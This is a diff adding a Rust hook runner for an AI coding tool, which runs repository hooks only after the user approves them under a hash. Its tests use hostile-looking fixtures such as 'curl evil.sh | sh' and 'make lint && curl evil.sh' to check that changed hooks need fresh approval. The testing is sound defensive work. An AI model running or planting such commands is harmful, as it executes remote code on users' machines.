@@ -0,0 +1,548 @@
+//! Hook runner
+//!
+//! Runs the configured hook commands for an event. Each command receives the
+//! hook input as JSON on stdin and answers through its exit code and stdout:
+//! - exit code 0: success; stdout may contain a JSON object (see `HookOutputJson`)
+//! - exit code 2: block; stderr (or stdout) is the reason given to the model
+//! - any other exit code: non-blocking error, logged and ignored
+//!
+//! Hooks from a project's `.bitfun/settings.json` come with the repository, so they only run
+//! after the user approved them; the approval is stored per workspace with the hash of the
+//! hooks and has to be renewed whenever they change.
+
+use super::types::{HookEvent, HookInput, HookOutcome, HookOutputJson};
+use crate::infrastructure::events::event_system::{get_global_event_system, BackendEvent};
+use crate::infrastructure::get_workspace_path;
+use crate::service::config::types::{AIConfig, HookCommandConfig, HooksConfig};
+use crate::service::config::{load_project_settings, project_settings_path, GlobalConfigManager};
+use crate::util::errors::{BitFunError, BitFunResult};
+use crate::util::process_manager::create_tokio_command;
+use globset::Glob;
+use log::{debug, info, warn};
+use once_cell::sync::Lazy;
+use serde_json::json;
+use sha2::{Digest, Sha256};
+use std::collections::HashMap;
+use std::path::{Path, PathBuf};
+use std::process::Stdio;
+use std::sync::Mutex;
+use std::time::{Duration, SystemTime};
+use tokio::io::AsyncWriteExt;
+
+/// Event emitted when a workspace has project hooks the user has not approved
+pub const PROJECT_HOOKS_APPROVAL_EVENT: &str = "project-hooks-approval-required";
+
+/// Default timeout of a hook command
+const DEFAULT_HOOK_TIMEOUT_SECS: u64 = 60;
+
+/// Exit code that blocks the action
+const BLOCK_EXIT_CODE: i32 = 2;
+
+/// Project hooks of a workspace as of the settings file's last modification
+struct CachedProjectHooks {
+    /// Modification time and size of the settings file; `None` if it does not exist
+    stamp: Option<(SystemTime, u64)>,
+    /// Hooks and their hash; `None` if the file defines no hooks
+    hooks: Option<(HooksConfig, String)>,
+    /// Whether the user was already asked to approve these hooks
+    announced: bool,
+}
+
+static PROJECT_HOOKS_CACHE: Lazy<Mutex<HashMap<PathBuf, CachedProjectHooks>>> =
+    Lazy::new(|| Mutex::new(HashMap::new()));
+
+/// Result of a single hook command
+#[derive(Debug, Default)]
+struct HookCommandResult {
+    blocked: Option<String>,
+    output: HookOutputJson,
+}
+
+/// Hooks of the user config and the current project
+#[derive(Debug, Default)]
+pub struct HookRunner {
+    hooks: Vec<(HookEvent, HookCommandConfig)>,
+    workspace: Option<PathBuf>,
+}
+
+impl HookRunner {
+    /// Build a runner from hook configurations (user hooks run first)
+    pub fn from_configs(configs: &[&HooksConfig], workspace: Option<PathBuf>) -> Self {
+        let mut hooks = Vec::new();
+        for config in configs {
+            let groups = [
+                (HookEvent::PreToolUse, &config.pre_tool_use),
+                (HookEvent::PostToolUse, &config.post_tool_use),
+                (HookEvent::TurnEnd, &config.turn_end),
+                (HookEvent::SessionStart, &config.session_start),
+            ];
+            for (event, commands) in groups {
+                hooks.extend(
+                    commands
+                        .iter()
+                        .filter(|command| !command.command.trim().is_empty())
+                        .map(|command| (event, command.clone())),
+                );
+            }
+        }
+
+        Self { hooks, workspace }
+    }
+
+    /// Load hooks from the user config and the current workspace's `.bitfun/settings.json`
+    ///
+    /// Project hooks are skipped until the user approved them (see `approve_project_hooks`).
+    pub async fn load() -> Self {
+        let (user, approvals) = match GlobalConfigManager::get_service().await {
+            Ok(service) => service
+                .get_config::<AIConfig>(Some("ai"))
+                .await
+                .map(|config| (config.hooks, config.approved_project_hooks))
+                .unwrap_or_default(),
+            Err(_) => Default::default(),
+        };
+
+        let workspace = get_workspace_path();
+        let project = match workspace.as_deref() {
+            Some(workspace) => approved_project_hooks(workspace, &approvals).await,
+            None => None,
+        };
+
+        let mut configs = vec![&user];
+        if let Some(ref project) = project {
+            configs.push(project);
+        }
+
+        Self::from_configs(&configs, workspace)
+    }
+
+    /// Whether any hook is configured for the event (and tool)
+    pub fn has_hooks(&self, event: HookEvent, tool_name: Option<&str>) -> bool {
+        self.matching(event, tool_name).next().is_some()
+    }
+
+    fn matching<'a>(
+        &'a self,
+        event: HookEvent,
+        tool_name: Option<&'a str>,
+    ) -> impl Iterator<Item = &'a HookCommandConfig> + 'a {
+        self.hooks
+            .iter()
+            .filter(move |(hook_event, command)| {
+                *hook_event == event
+                    && (!event.is_tool_event()
+                        || matches_tool(command.matcher.as_deref(), tool_name.unwrap_or("")))
+            })
+            .map(|(_, command)| command)
+    }
+
+    /// Run every matching hook in order
+    ///
+    /// A PreToolUse hook that rewrites the input passes the new input to the next hook.
+    /// Running stops at the first hook that blocks.
+    pub async fn run(&self, mut input: HookInput) -> HookOutcome {
+        let event = input.hook_event_name;
+        let tool_name = input.tool_name.clone();
+        let mut outcome = HookOutcome::default();
+
+        if input.workspace.is_none() {
+            input.workspace = self.workspace.as_ref().map(|p| p.display().to_string());
+        }
+
+        for command in self.matching(event, tool_name.as_deref()) {
+            let result = self.run_command(command, &input).await;
+
+            if let Some(updated_input) = result.output.updated_input {
+                if event == HookEvent::PreToolUse {
+                    debug!("Hook rewrote tool input: event={}, command={}", event, command.command);
+                    input.tool_input = Some(updated_input.clone());
+                    outcome.updated_input = Some(updated_input);
+                } else {
+                    warn!("Ignoring updated_input from {} hook: command={}", event, command.command);
+                }
+            }
+            if let Some(context) = result.output.additional_context {
+                outcome.additional_context.push(context);
+            }
+            if let Some(reason) = result.blocked {
+                outcome.blocked = Some(reason);
+                break;
+            }
+        }
+
+        outcome
+    }
+
+    async fn run_command(&self, hook: &HookCommandConfig, input: &HookInput) -> HookCommandResult {
+        let event = input.hook_event_name;
+        let payload = match serde_json::to_vec(input) {
+            Ok(payload) => payload,
+            Err(e) => {
+                warn!("Failed to serialize hook input: event={}, error={}", event, e);
+                return HookCommandResult::default();
+            }
+        };
+
+        let mut command = shell_command(&hook.command);
+        command
+            .env("BITFUN_HOOK_EVENT", event.as_str())
+            .env("BITFUN_SESSION_ID", &input.session_id)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .kill_on_drop(true);
+        if let Some(ref workspace) = self.workspace {
+            command.current_dir(workspace).env("BITFUN_WORKSPACE", workspace);
+        }
+
+        let mut child = match command.spawn() {
+            Ok(child) => child,
+            Err(e) => {
+                warn!("Failed to start hook: event={}, command={}, error={}", event, hook.command, e);
+                return HookCommandResult::default();
+            }
+        };
+
+        if let Some(mut stdin) = child.stdin.take() {
+            // Write in the background so a hook that never reads stdin cannot stall us;
+            // dropping stdin afterwards closes the pipe
+            tokio::spawn(async move {
+                let _ = stdin.write_all(&payload).await;
+            });
+        }
+
+        let timeout_secs = hook.timeout_secs.unwrap_or(DEFAULT_HOOK_TIMEOUT_SECS);
+        let output = match tokio::time::timeout(Duration::from_secs(timeout_secs), child.wait_with_output()).await {
+            Ok(Ok(output)) => output,
+            Ok(Err(e)) => {
+                warn!("Hook failed: event={}, command={}, error={}", event, hook.command, e);
+                return HookCommandResult::default();
+            }
+            Err(_) => {
+                warn!("Hook timed out after {}s: event={}, command={}", timeout_secs, event, hook.command);
+                return HookCommandResult::default();
+            }
+        };
+
+        let stdout = String::from_utf8_lossy(&output.stdout).trim().to_string();
+        let stderr = String::from_utf8_lossy(&output.stderr).trim().to_string();
+        debug!(
+            "Hook finished: event={}, command={}, exit_code={:?}",
+            event,
+            hook.command,
+            output.status.code()
+        );
+
+        parse_hook_output(output.status.code(), &stdout, &stderr, &hook.command)
+    }
+}
+
+/// Approve the current project hooks of a workspace
+///
+/// `hash` is the hash the approval was requested for; the call fails if the hooks changed
+/// in the meantime, so the user never approves commands they have not seen.
+pub async fn approve_project_hooks(workspace: &Path, hash: &str) -> BitFunResult<()> {
+    let service = GlobalConfigManager::get_service().await?;
+    let mut approvals = service
+        .get_config::<HashMap<String, String>>(Some("ai.approved_project_hooks"))
+        .await
+        .unwrap_or_default();
+    record_project_hooks_approval(workspace, hash, &mut approvals)?;
+    service
+        .set_config("ai.approved_project_hooks", &approvals)
+        .await?;
+
+    info!("Project hooks approved: workspace={}", workspace.display());
+    Ok(())
+}
+
+/// Current project hooks of a workspace with their hash, approved or not
+///
+/// Front ends show these to the user and pass the hash back to `approve_project_hooks`.
+pub fn project_hooks(workspace: &Path) -> Option<(HooksConfig, String)> {
+    cached_project_hooks(workspace).map(|(hooks, hash, _)| (hooks, hash))
+}
+
+/// Record the approval of a workspace's project hooks if `hash` matches the current hooks
+fn record_project_hooks_approval(
+    workspace: &Path,
+    hash: &str,
+    approvals: &mut HashMap<String, String>,
+) -> BitFunResult<()> {
+    let current = cached_project_hooks(workspace).map(|(_, current, _)| current);
+    if current.as_deref() != Some(hash) {
+        return Err(BitFunError::validation(
+            "Project hooks changed since the approval was requested",
+        ));
+    }
+
+    approvals.insert(workspace_key(workspace), hash.to_string());
+    Ok(())
+}
+
+/// Project hooks of a workspace if the user approved them
+///
+/// Unapproved hooks are skipped; the first time they are seen the UI is asked to request
+/// approval.
+async fn approved_project_hooks(
+    workspace: &Path,
+    approvals: &HashMap<String, String>,
+) -> Option<HooksConfig> {
+    let (hooks, hash, announce) = cached_project_hooks(workspace)?;
+    if approvals.get(&workspace_key(workspace)) == Some(&hash) {
+        return Some(hooks);
+    }
+
+    if announce {
+        warn!(
+            "Skipping project hooks until they are approved (in the app or with `bitfun-cli hooks approve`): workspace={}",
+            workspace.display()
+        );
+        let event = BackendEvent::Custom {
+            event_name: PROJECT_HOOKS_APPROVAL_EVENT.to_string(),
+            payload: json!({
+                "workspace": workspace.display().to_string(),
+                "hash": hash,
+                "hooks": hooks,
+            }),
+        };
+        let _ = get_global_event_system().emit(event).await;
+    }
+    None
+}
+
+/// Hooks of a workspace's settings file with their hash and whether approval should be
+/// requested; re-read only when the file changed
+fn cached_project_hooks(workspace: &Path) -> Option<(HooksConfig, String, bool)> {
+    let stamp = std::fs::metadata(project_settings_path(workspace))
+        .ok()
+        .and_then(|metadata| Some((metadata.modified().ok()?, metadata.len())));
+
+    let mut cache = PROJECT_HOOKS_CACHE
+        .lock()
+        .unwrap_or_else(|poisoned| poisoned.into_inner());
+    let stale = cache
+        .get(workspace)
+        .map_or(true, |cached| cached.stamp != stamp);
+    if stale {
+        let hooks = stamp
+            .and_then(|_| load_project_settings(workspace))
+            .map(|settings| settings.hooks)
+            .filter(|hooks| !hooks.is_empty())
+            .map(|hooks| {
+                let hash = project_hooks_hash(&hooks);
+                (hooks, hash)
+            });
+        cache.insert(
+            workspace.to_path_buf(),
+            CachedProjectHooks {
+                stamp,
+                hooks,
+                announced: false,
+            },
+        );
+    }
+
+    let cached = cache.get_mut(workspace)?;
+    let (hooks, hash) = cached.hooks.clone()?;
+    let announce = !std::mem::replace(&mut cached.announced, true);
+    Some((hooks, hash, announce))
+}
+
+fn project_hooks_hash(hooks: &HooksConfig) -> String {
+    let content = serde_json::to_vec(hooks).unwrap_or_default();
+    format!("{:x}", Sha256::digest(&content))
+}
+
+fn workspace_key(workspace: &Path) -> String {
+    workspace.to_string_lossy().to_string()
+}
+
+/// Interpret the exit code and output of a hook command
+fn parse_hook_output(exit_code: Option<i32>, stdout: &str, stderr: &str, command: &str) -> HookCommandResult {
+    match exit_code {
+        Some(0) => {
+            let output = if stdout.starts_with('{') {
+                serde_json::from_str::<HookOutputJson>(stdout).unwrap_or_else(|e| {
+                    warn!("Ignoring invalid hook output: command={}, error={}", command, e);
+                    HookOutputJson::default()
+                })
+            } else {
+                HookOutputJson::default()
+            };
+
+            let blocked = output
+                .decision
+                .as_deref()
+                .filter(|decision| decision.eq_ignore_ascii_case("block"))
+                .map(|_| {
+                    output
+                        .reason
+                        .clone()
+                        .unwrap_or_else(|| format!("Blocked by hook: {}", command))
+                });
+
+            HookCommandResult { blocked, output }
+        }
+        Some(BLOCK_EXIT_CODE) => {
+            let reason = [stderr, stdout]
+                .into_iter()
+                .find(|text| !text.is_empty())
+                .map(str::to_string)
+                .unwrap_or_else(|| format!("Blocked by hook: {}", command));
+
+            HookCommandResult {
+                blocked: Some(reason),
+                output: HookOutputJson::default(),
+            }
+        }
+        code => {
+            warn!(
+                "Hook exited with non-blocking error: command={}, exit_code={:?}, stderr={}",
+                command, code, stderr
+            );
+            HookCommandResult::default()
+        }
+    }
+}
+
+/// Match a tool name against `|`-separated glob patterns (empty matches everything)
+fn matches_tool(matcher: Option<&str>, tool_name: &str) -> bool {
+    let matcher = match matcher.map(str::trim) {
+        None | Some("") | Some("*") => return true,
+        Some(matcher) => matcher,
+    };
+
+    matcher
+        .split('|')
+        .map(str::trim)
+        .filter(|pattern| !pattern.is_empty())
+        .any(|pattern| match Glob::new(pattern).map(|glob| glob.compile_matcher()) {
+            Ok(glob) => glob.is_match(tool_name),
+            Err(_) => pattern == tool_name,
+        })
+}
+
+#[cfg(windows)]
+fn shell_command(command: &str) -> tokio::process::Command {
+    let mut cmd = create_tokio_command("cmd");
+    cmd.arg("/C").arg(command);
+    cmd
+}
+
+#[cfg(not(windows))]
+fn shell_command(command: &str) -> tokio::process::Command {
+    let mut cmd = create_tokio_command("sh");
+    cmd.arg("-c").arg(command);
+    cmd
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn tool_matcher() {
+        assert!(matches_tool(None, "Bash"));
+        assert!(matches_tool(Some("Write|Edit"), "Edit"));
+        assert!(!matches_tool(Some("Write|Edit"), "Bash"));
+        assert!(matches_tool(Some("mcp_github_*"), "mcp_github_create_issue"));
+    }
+
+    #[test]
+    fn exit_code_two_blocks_with_stderr() {
+        let result = parse_hook_output(Some(2), "", "rm is not allowed", "check.sh");
+        assert_eq!(result.blocked.as_deref(), Some("rm is not allowed"));
+    }
+
+    #[test]
+    fn json_output_is_parsed() {
+        let result = parse_hook_output(
+            Some(0),
+            r#"{"decision": "block", "reason": "lint failed", "additional_context": "see output"}"#,
+            "",
+            "lint.sh",
+        );
+        assert_eq!(result.blocked.as_deref(), Some("lint failed"));
+        assert_eq!(result.output.additional_context.as_deref(), Some("see output"));
+
+        let result = parse_hook_output(Some(0), "formatted 3 files", "", "fmt.sh");
+        assert!(result.blocked.is_none());
+        assert!(result.output.additional_context.is_none());
+    }
+
+    #[test]
+    fn other_exit_codes_do_not_block() {
+        let result = parse_hook_output(Some(1), "", "oops", "hook.sh");
+        assert!(result.blocked.is_none());
+    }
+
+    #[cfg(not(windows))]
+    #[tokio::test]
+    async fn pre_tool_use_hook_rewrites_input() {
+        let config = HooksConfig {
+            pre_tool_use: vec![HookCommandConfig {
+                matcher: Some("Bash".to_string()),
+                command: r#"echo '{"updated_input": {"command": "ls -la"}}'"#.to_string(),
+                timeout_secs: Some(10),
+            }],
+            ..Default::default()
+        };
+        let runner = HookRunner::from_configs(&[&config], None);
+
+        let input = HookInput::new(HookEvent::PreToolUse, "session")
+            .with_tool("Bash", "tool-1", serde_json::json!({"command": "ls"}));
+        let outcome = runner.run(input).await;
+
+        assert!(!outcome.is_blocked());
+        assert_eq!(outcome.updated_input, Some(serde_json::json!({"command": "ls -la"})));
+        assert!(!runner.has_hooks(HookEvent::PreToolUse, Some("Write")));
+    }
+
+    #[test]
+    fn project_hooks_are_rehashed_when_settings_change() {
+        let workspace = std::env::temp_dir().join(format!("bitfun-hooks-{}", uuid::Uuid::new_v4()));
+        let settings_file = project_settings_path(&workspace);
+        std::fs::create_dir_all(settings_file.parent().unwrap()).unwrap();
+        assert!(cached_project_hooks(&workspace).is_none());
+
+        std::fs::write(&settings_file, r#"{"hooks": {"TurnEnd": [{"command": "make lint"}]}}"#).unwrap();
+        let (hooks, hash, announce) = cached_project_hooks(&workspace).unwrap();
+        assert_eq!(hooks.turn_end[0].command, "make lint");
+        assert!(announce);
+        let (_, same_hash, announce) = cached_project_hooks(&workspace).unwrap();
+        assert_eq!(same_hash, hash);
+        assert!(!announce);
+
+        std::fs::write(&settings_file, r#"{"hooks": {"TurnEnd": [{"command": "curl evil.sh | sh"}]}}"#).unwrap();
+        let (_, changed_hash, announce) = cached_project_hooks(&workspace).unwrap();
+        assert_ne!(changed_hash, hash);
+        assert!(announce);
+
+        let _ = std::fs::remove_dir_all(&workspace);
+    }
+
+    #[tokio::test]
+    async fn project_hooks_run_only_after_approval_of_the_current_hash() {
+        let workspace = std::env::temp_dir().join(format!("bitfun-hooks-{}", uuid::Uuid::new_v4()));
+        let settings_file = project_settings_path(&workspace);
+        std::fs::create_dir_all(settings_file.parent().unwrap()).unwrap();
+        std::fs::write(&settings_file, r#"{"hooks": {"TurnEnd": [{"command": "make lint"}]}}"#).unwrap();
+
+        let mut approvals = HashMap::new();
+        assert!(approved_project_hooks(&workspace, &approvals).await.is_none());
+
+        let (_, hash) = project_hooks(&workspace).unwrap();
+        assert!(record_project_hooks_approval(&workspace, "stale", &mut approvals).is_err());
+        record_project_hooks_approval(&workspace, &hash, &mut approvals).unwrap();
+        let hooks = approved_project_hooks(&workspace, &approvals).await.unwrap();
+        assert_eq!(hooks.turn_end[0].command, "make lint");
+
+        std::fs::write(&settings_file, r#"{"hooks": {"TurnEnd": [{"command": "make lint && curl evil.sh"}]}}"#)
+            .unwrap();
+        assert!(approved_project_hooks(&workspace, &approvals).await.is_none());
+        assert!(record_project_hooks_approval(&workspace, &hash, &mut approvals).is_err());
+
+        let _ = std::fs::remove_dir_all(&workspace);
+    }
+}